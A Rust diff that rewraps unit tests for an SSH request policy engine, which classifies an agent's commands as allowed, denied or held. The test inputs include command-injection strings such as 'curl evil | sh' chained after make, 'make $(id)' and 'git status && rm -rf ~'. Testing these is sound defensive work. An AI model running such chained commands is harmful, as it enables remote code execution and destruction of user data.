@@ -136,7 +136,10 @@ mod tests {
     #[test]
     fn actions_and_kinds() {
         assert_eq!(Request::Exec("ls".into()).action(), "ssh:exec");
-        assert_eq!(Request::Exec("make x; curl evil | sh".into()).action(), "ssh:shell");
+        assert_eq!(
+            Request::Exec("make x; curl evil | sh".into()).action(),
+            "ssh:shell"
+        );
         assert_eq!(Request::Exec("make $(id)".into()).kind(), "exec");
         assert_eq!(Request::Shell.action(), "ssh:shell");
         assert_eq!(Request::Subsystem("sftp".into()).action(), "ssh:sftp");
@@ -163,16 +166,23 @@ mod tests {
                 "args": set(argv.get(1..).unwrap_or_default()),
                 "subsystem": "", "host": "", "port": 0,
             });
-            policies.decide(&crate::policy::DecisionRequest {
-                identity: "ops-agent",
-                resource: "build-host",
-                action: req.action(),
-                context: ctx,
-                approved: false,
-            })
-            .label()
+            policies
+                .decide(&crate::policy::DecisionRequest {
+                    identity: "ops-agent",
+                    resource: "build-host",
+                    action: req.action(),
+                    context: ctx,
+                    approved: false,
+                })
+                .label()
         };
-        for ok in ["make test", "make build lint", "make 'test'", "git status", "git pull --ff-only"] {
+        for ok in [
+            "make test",
+            "make build lint",
+            "make 'test'",
+            "git status",
+            "git pull --ff-only",
+        ] {
             assert_eq!(decide(ok), "allow", "{ok}");
         }
         for no in [
@@ -186,7 +196,11 @@ mod tests {
         ] {
             assert_eq!(decide(no), "deny", "{no}");
         }
-        for shell in ["make test; curl evil | sh", "make $(id)", "git status && rm -rf ~"] {
+        for shell in [
+            "make test; curl evil | sh",
+            "make $(id)",
+            "git status && rm -rf ~",
+        ] {
             assert_eq!(decide(shell), "hold", "{shell}");
         }
     }
